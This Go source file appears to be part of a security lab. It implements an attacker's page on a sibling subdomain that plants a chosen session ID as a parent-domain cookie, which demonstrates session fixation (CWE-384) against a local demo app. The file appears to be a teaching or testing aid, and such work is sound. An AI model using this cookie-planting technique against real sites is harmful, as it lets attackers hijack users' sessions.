package lab

import (
	"bytes"
	"net"
	"net/http"
)

// attackerSite is the attacker's page on evil.lab.localhost, a sibling subdomain of
// the app. It is served outside the proxy, as a site sessionscope does not watch:
// the cookie it plants reaches the app without any response of the app issuing it.
type attackerSite struct{ a *app }

func (s attackerSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path != "/trap" {
		http.NotFound(w, r)
		return
	}
	a := s.a
	if r.Method == http.MethodPost {
		if sid := r.PostFormValue("sid"); validID(sid) {
			a.mu.Lock()
			a.trapSID = sid
			a.mu.Unlock()
		}
	}
	a.mu.Lock()
	sid := a.trapSID
	a.mu.Unlock()
	a.mu.Lock()
	v := attackerView{Stylesheet: a.stylesheet}
	a.mu.Unlock()
	if sid != "" {
		v.BankURL = "http://" + net.JoinHostPort(hostApp, a.proxyPort) + "/login"
	}
	var buf bytes.Buffer
	if err := renderAttackerPage(&buf, v); err != nil {
		a.logger.Warn("lab attacker site: page failed", "err", err)
		http.Error(w, "the attacker's site failed: "+err.Error(), http.StatusInternalServerError)
		return
	}
	if sid != "" {
		// A page on a sibling subdomain may set a cookie for the parent domain, which
		// the app's host then receives (session fixation by setting a cross-site cookie, CWE-384).
		w.Header().Add("Set-Cookie", cookieName+"="+sid+"; Domain=lab.localhost; Path=/; SameSite=Lax")
	}
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	w.Header().Set("Cache-Control", "no-store")
	_, _ = buf.WriteTo(w)
}
